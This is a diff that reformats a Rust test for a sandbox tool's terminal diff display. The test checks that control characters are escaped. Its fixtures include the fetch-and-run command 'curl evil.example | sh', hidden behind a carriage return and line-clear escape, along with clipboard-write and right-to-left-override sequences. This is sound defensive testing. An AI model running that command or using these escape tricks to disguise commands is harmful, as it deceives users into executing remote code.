@@ -368,14 +368,29 @@ fn diff_terminal_cases(a: &Airlock, label: &str) {
     let out = common::run_with_deadline(cmd, None, common::DEADLINE);
     assert_eq!(out.code(), 0, "{label}: {}", out.describe());
     let shown = &out.stdout;
-    assert!(shown.contains("curl evil.example | sh"), "{label}: {shown:?}");
-    for raw in ["\u{1b}[2K", "\u{1b}]52", "\u{7}", "\u{9b}", "\u{202e}", "sh\r\u{1b}"] {
+    assert!(
+        shown.contains("curl evil.example | sh"),
+        "{label}: {shown:?}"
+    );
+    for raw in [
+        "\u{1b}[2K",
+        "\u{1b}]52",
+        "\u{7}",
+        "\u{9b}",
+        "\u{202e}",
+        "sh\r\u{1b}",
+    ] {
         assert!(
             !shown.contains(raw),
             "{label}: the terminal got {raw:?} raw from the sandbox's file: {shown:?}"
         );
     }
-    for visible in ["\\x0d\\x1b[2K# a comment", "\\x1b]52;c;ZXZpbA==\\x07clip", "\\x9b31mred", "\\u{202e}tixe"] {
+    for visible in [
+        "\\x0d\\x1b[2K# a comment",
+        "\\x1b]52;c;ZXZpbA==\\x07clip",
+        "\\x9b31mred",
+        "\\u{202e}tixe",
+    ] {
         assert!(
             shown.contains(visible),
             "{label}: {visible:?} not shown: {shown:?}"
@@ -384,7 +399,9 @@ fn diff_terminal_cases(a: &Airlock, label: &str) {
     // A pipe gets the patch as git made it.
     let piped = ok(a, label, &["diff", "esc"]);
     assert!(
-        piped.stdout.contains("+curl evil.example | sh\r\u{1b}[2K# a comment"),
+        piped
+            .stdout
+            .contains("+curl evil.example | sh\r\u{1b}[2K# a comment"),
         "{label}: {}",
         piped.describe()
     );
